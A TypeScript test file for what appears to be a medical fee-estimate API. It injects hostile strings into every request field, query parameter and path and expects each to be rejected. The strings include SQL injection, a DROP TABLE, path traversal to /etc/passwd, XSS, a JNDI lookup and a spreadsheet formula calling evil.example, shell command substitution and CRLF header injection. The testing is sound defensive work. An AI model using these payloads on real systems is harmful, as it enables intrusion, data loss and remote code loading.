import { PAYER, VISIT, type Attack } from './attack.ts';

/** What would be carried out somewhere if a field went there as it is. */
const INJECTIONS = [
  `' OR '1'='1`,
  `"; DROP TABLE allowable; --`,
  '{"$gt":""}',
  '#PRACTICE#riverside',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '$(touch attacked)',
  '=HYPERLINK("http://evil.example")',
  '97110\r\nset-cookie: a=b',
  'a\u0000b',
];

const FIELDS: readonly (readonly [string, (text: string) => object])[] = [
  ['dateOfService', (text) => ({ dateOfService: text })],
  ['place.carrier', (text) => ({ place: { carrier: text, locality: '99' } })],
  ['place.locality', (text) => ({ place: { carrier: '04412', locality: text } })],
  ['place.zip', (text) => ({ place: { zip: text } })],
  ['place.plus4', (text) => ({ place: { zip: '78602', plus4: text } })],
  ['placeOfService', (text) => ({ placeOfService: text })],
  ['payer', (text) => ({ payer: text })],
  ['clinician.kind', (text) => ({ clinician: { kind: text } })],
  ['asOf', (text) => ({ asOf: text })],
  ['diagnoses', (text) => ({ diagnoses: [text] })],
  ['lines.code', (text) => ({ lines: [{ code: text, units: 1 }] })],
  ['lines.units', (text) => ({ lines: [{ code: '97110', units: text }] })],
  ['lines.modifiers', (text) => ({ lines: [{ code: '97110', units: 1, modifiers: [text] }] })],
  ['lines.charge', (text) => ({ lines: [{ code: '97110', units: 1, charge: text }] })],
  ['benefits.copay', (text) => ({ payer: 'acme', benefits: { copay: text } })],
  ['benefits.coinsurance', (text) => ({ payer: 'acme', benefits: { coinsurance: text } })],
  ['a field’s name', (text) => ({ [text]: 1 })],
];

export const injections: Attack[] = FIELDS.flatMap(([field, change]) =>
  INJECTIONS.map((text): Attack => ({
    ...{ name: `${JSON.stringify(text)} as ${field}`, sender: 'hillside', method: 'POST' },
    ...{ path: '/v1/estimates', json: { ...VISIT, ...change(text) }, status: 422 },
  })),
);

const PARAMETERS = ['code', 'modifier', 'carrier', 'locality', 'zip', 'date', 'setting', 'qp'];

export const injectedParameters: Attack[] = PARAMETERS.flatMap((name) =>
  INJECTIONS.slice(0, 6).map((text): Attack => {
    const asked = { code: '97110', carrier: '04412', locality: '99', date: '2026-07-15', [name]: text };
    const path = `/v1/fees?${new URLSearchParams(asked).toString()}`;
    return {
      name: `${JSON.stringify(text)} as ${name}`,
      sender: 'hillside',
      method: 'GET',
      path,
      status: 422,
    };
  }),
);

export const injectedElsewhere: Attack[] = INJECTIONS.flatMap((text): Attack[] => {
  const encoded = encodeURIComponent(text);
  return [
    {
      name: `${JSON.stringify(text)} as a payer’s id`,
      sender: 'hillside',
      method: 'GET',
      path: `/v1/payers/${encoded}`,
      status: 404,
    },
    {
      name: `${JSON.stringify(text)} as a new payer’s id`,
      sender: 'hillside',
      method: 'PUT',
      path: `/v1/payers/${encoded}`,
      json: { ...PAYER, id: text },
      status: 422,
    },
    {
      name: `${JSON.stringify(text)} as a release`,
      sender: 'hillside',
      method: 'GET',
      path: `/v1/releases/${encoded}/diff/2026C`,
      status: 404,
    },
    {
      name: `${JSON.stringify(text)} as a version’s day`,
      sender: 'hillside',
      method: 'DELETE',
      path: `/v1/charges/versions/${encoded}`,
      status: 404,
    },
  ];
});
